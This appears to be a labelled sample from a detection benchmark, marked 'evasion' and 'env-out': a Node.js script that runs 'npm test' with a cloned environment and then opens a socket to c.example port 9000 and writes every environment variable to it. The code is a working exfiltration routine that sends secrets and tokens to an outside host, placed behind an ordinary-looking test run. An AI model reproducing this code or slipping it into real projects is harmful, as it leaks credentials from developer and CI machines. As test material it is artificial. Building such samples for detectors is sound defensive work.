// evasion: a child's env iterated with Object.entries and written to a socket
// grade: easy; does: env-out
const { spawn } = require("child_process");
const net = require("net");
const env = structuredClone(process.env);
env.NODE_ENV = "test";
spawn("npm", ["test"], { env, stdio: "inherit" });
const s = net.connect(9000, "c.example", () => {
  for (const [k, v] of Object.entries(env)) s.write(k + "=" + v + "\n");
  s.end();
});
